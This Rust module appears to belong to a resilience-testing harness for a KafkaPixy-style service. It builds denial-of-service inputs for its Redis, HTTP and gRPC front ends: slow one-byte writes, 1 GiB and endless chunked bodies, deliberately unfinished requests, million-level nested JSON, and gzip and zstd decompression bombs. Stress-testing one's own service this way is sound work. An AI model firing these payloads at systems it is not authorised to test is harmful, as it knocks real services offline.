//! Attacks by what is sent.

use super::crowd::Script;
use super::ear::Speech;
use super::frames::{self, FRAME, PREFACE};
use super::{FrontEnd, Strike};
use std::io::{self, Write as _};
use std::time::Duration;

/// A million levels.
const DEPTH: usize = 1_000_000;
/// Inflated.
const BOMB: usize = 1 << 30;
const MIB: usize = 1 << 20;

pub(super) fn one_byte_writes(strike: &mut Strike<'_>) -> io::Result<()> {
    let topic = strike.target.topic.clone();
    let connections = (strike.size.connections / 10).min(200);
    let redis = format!("RPUSHX topics:{topic} one-byte\r\n");
    let http = format!(
        "POST /v1/topics/{topic}/records HTTP/1.1\r\nHost: x\r\nContent-Type: text/plain\r\n\
         Content-Length: 8\r\n\r\none-byte"
    );
    // Field 2 is the topic, 5 the message.
    let mut message = vec![0x12, u8::try_from(topic.len()).unwrap_or(0)];
    message.extend_from_slice(topic.as_bytes());
    message.extend_from_slice(b"\x2a\x08one-byte");
    let length = u32::try_from(message.len()).unwrap_or(0);
    let grpc = [
        PREFACE,
        &frames::headers(1, &frames::call("/KafkaPixy/Produce"), false),
        &frames::data(1, &[frames::prefix(false, length), message].concat(), true),
    ];
    for (front_end, speech, text) in [
        (FrontEnd::Redis, Speech::Redis, redis.into_bytes()),
        (FrontEnd::Http, Speech::Http1, http.into_bytes()),
        (FrontEnd::Grpc, Speech::Http2, grpc.concat()),
    ] {
        let script = Script::new(speech, *b"").spell(text, Duration::from_micros(100));
        strike.again(|strike| {
            let scripts = std::iter::repeat_n(script.clone(), connections);
            strike.crowd(front_end, scripts)
        })?;
    }
    Ok(())
}

pub(super) fn huge_bodies(strike: &mut Strike<'_>) -> io::Result<()> {
    let topic = strike.target.topic.clone();
    let times = strike.size.body_bytes / MIB as u64;
    let piece = vec![b'x'; MIB];
    let redis = format!("*3\r\n$6\r\nRPUSHX\r\n$8\r\ntopics:t\r\n${}\r\n", 1 << 30);
    let post = |path: &str, length: &str| {
        format!("POST {path} HTTP/1.1\r\nHost: x\r\nContent-Type: text/plain\r\n{length}\r\n\r\n")
    };
    let announced = format!("Content-Length: {}", 1 << 30);
    let (native, old) = (
        format!("/v1/topics/{topic}/records"),
        format!("/topics/{topic}/messages"),
    );
    let chunk = [format!("{MIB:x}\r\n").as_bytes(), &piece, b"\r\n"].concat();
    let grpc = [
        PREFACE,
        &frames::headers(1, &frames::call("/KafkaPixy/Produce"), false),
        &frames::data(1, &frames::prefix(false, 1 << 30), false),
    ];
    let http = |path: &str| {
        let known = Script::new(Speech::Http1, post(path, &announced).into_bytes());
        let chunked = post(path, "Transfer-Encoding: chunked").into_bytes();
        [
            known.repeat(piece.clone(), times),
            Script::new(Speech::Http1, chunked).repeat(chunk.clone(), times),
        ]
    };
    let grpc = Script::new(Speech::Http2, grpc.concat());
    let frames = frames::data(1, &[b'x'; FRAME], false);
    let frames_in_body = strike.size.body_bytes / FRAME as u64;
    let groups = [
        (
            FrontEnd::Redis,
            vec![Script::new(Speech::Redis, redis.into_bytes()).repeat(piece.clone(), times)],
        ),
        (FrontEnd::Http, [http(&native), http(&old)].concat()),
        (FrontEnd::Grpc, vec![grpc.repeat(frames, frames_in_body)]),
    ];
    strike.again(|strike| {
        groups
            .iter()
            .try_for_each(|(front_end, scripts)| strike.crowd(*front_end, scripts.clone()))
    })
}

pub(super) fn unfinished(strike: &mut Strike<'_>, front_end: FrontEnd) -> io::Result<()> {
    let topic = &strike.target.topic;
    let connections = strike.size.connections.min(100);
    let script = match front_end {
        FrontEnd::Redis => {
            let key = format!("topics:{topic}");
            let head = format!(
                "*3\r\n$6\r\nRPUSHX\r\n${}\r\n{key}\r\n$32000000\r\n",
                key.len()
            );
            Script::new(Speech::Redis, head.into_bytes()).repeat(vec![b'x'; 100_000], 319)
        }
        FrontEnd::Http => {
            let head = format!(
                "POST /v1/topics/{topic}/records?as=records HTTP/1.1\r\nHost: x\r\n\
                 Content-Type: application/json\r\nContent-Length: {}\r\n\r\n",
                16 * MIB
            );
            Script::new(Speech::Http1, head.into_bytes()).repeat(vec![b' '; MIB], 15)
        }
        FrontEnd::Grpc => Script::new(Speech::Http2, PREFACE)
            .make(unfinished_message, 100 * FRAMES)
            .within_window(),
    };
    strike.crowd(
        front_end,
        std::iter::repeat_n(script.waiting(), connections),
    )
}

/// Of a message of 1 MiB so many are sent: no more than a stream's window has.
const FRAMES: u64 = 30;

/// The frames of one call after the other.
fn unfinished_message(turn: u64) -> Vec<u8> {
    let stream = u32::try_from(turn / FRAMES * 2 + 1).unwrap_or(1);
    let piece = frames::data(stream, &[b'x'; FRAME], false);
    if !turn.is_multiple_of(FRAMES) {
        return piece;
    }
    let length = u32::try_from(MIB - 1).unwrap_or(0);
    [
        frames::headers(stream, &frames::call("/KafkaPixy/Produce"), false),
        frames::data(stream, &frames::prefix(false, length), false),
        piece,
    ]
    .concat()
}

pub(super) fn deep_json(strike: &mut Strike<'_>) -> io::Result<()> {
    let topic = strike.target.topic.clone();
    let deep = "[".repeat(DEPTH);
    let post = |path: &str| {
        let text = format!(
            "POST {path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n\
             Content-Length: {DEPTH}\r\n\r\n{deep}"
        );
        Script::new(Speech::Http1, text.into_bytes()).leaving(1)
    };
    let http = [
        format!("/v1/topics/{topic}/records?as=records"),
        format!("/v1/groups/g/topics/{topic}/acks"),
        "/v1/topics".to_owned(),
        format!("/topics/{topic}/offsets?group=g"),
    ];
    let http: Vec<Script> = http.iter().map(|path| post(path)).collect();
    let key = format!("topics:{topic}:{{\"a\":{deep}");
    let redis = format!(
        "CLIENT SETNAME deep:json\r\n*3\r\n$5\r\nBLPOP\r\n${}\r\n{key}\r\n$1\r\n1\r\n",
        key.len()
    );
    let redis = Script::new(Speech::Redis, [redis.as_bytes(), b"QUIT\r\n"].concat());
    strike.again(|strike| {
        strike.crowd(FrontEnd::Http, http.clone())?;
        strike.crowd(FrontEnd::Redis, [redis.clone()])
    })
}

pub(super) fn bombs(strike: &mut Strike<'_>) -> io::Result<()> {
    let topic = strike.target.topic.clone();
    let (gzip, zstd) = (gzip_bomb()?, zstd_bomb());
    let post = |(path, kind): (&str, &str), encoding: &str, bomb: &[u8]| {
        let head = format!(
            "POST {path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/{kind}\r\n\
             Content-Encoding: {encoding}\r\nContent-Length: {}\r\n\r\n",
            bomb.len()
        );
        let text = [head.as_bytes(), bomb].concat();
        Script::new(Speech::Http1, text).leaving(1)
    };
    let mut http = Vec::new();
    for (path, kind) in [
        (format!("/v1/topics/{topic}/records?as=records"), "json"),
        (format!("/v1/topics/{topic}/records"), "x-ndjson"),
    ] {
        http.push(post((&path, kind), "gzip", &gzip));
        http.push(post((&path, kind), "zstd", &zstd));
    }
    let length = u32::try_from(gzip.len()).unwrap_or(0);
    let mut call = frames::call("/KafkaPixy/Produce");
    call.extend_from_slice(&frames::block([("grpc-encoding", "gzip")]));
    let mut grpc = [
        PREFACE,
        &frames::headers(1, &call, false),
        &frames::data(1, &frames::prefix(true, length), false),
    ]
    .concat();
    for piece in gzip.chunks(FRAME) {
        grpc.extend_from_slice(&frames::data(1, piece, false));
    }
    let grpc = Script::new(Speech::Http2, grpc).leaving(1);
    strike.again(|strike| {
        strike.crowd(FrontEnd::Http, http.clone())?;
        strike.crowd(FrontEnd::Grpc, [grpc.clone()])
    })
}

/// Members of 1 MiB of zeros, one after the other.
fn gzip_bomb() -> io::Result<Vec<u8>> {
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    encoder.write_all(&[0; MIB])?;
    Ok(encoder.finish()?.repeat(BOMB / MIB))
}

/// Blocks of one repeated byte, 128 KiB each in four bytes (RFC 8878, section 3.1.1.2).
fn zstd_bomb() -> Vec<u8> {
    const BLOCK: usize = 128 << 10;
    let head = |is_last: bool| {
        let head = u32::try_from(BLOCK << 3).unwrap_or(0) | 0b10 | u32::from(is_last);
        let [a, b, c, _] = head.to_le_bytes();
        [a, b, c, b'x']
    };
    // No content size, a window of 128 KiB.
    let mut bomb = b"\x28\xb5\x2f\xfd\x00\x38".to_vec();
    bomb.extend(head(false).repeat(BOMB / BLOCK - 1));
    bomb.extend(head(true));
    bomb
}
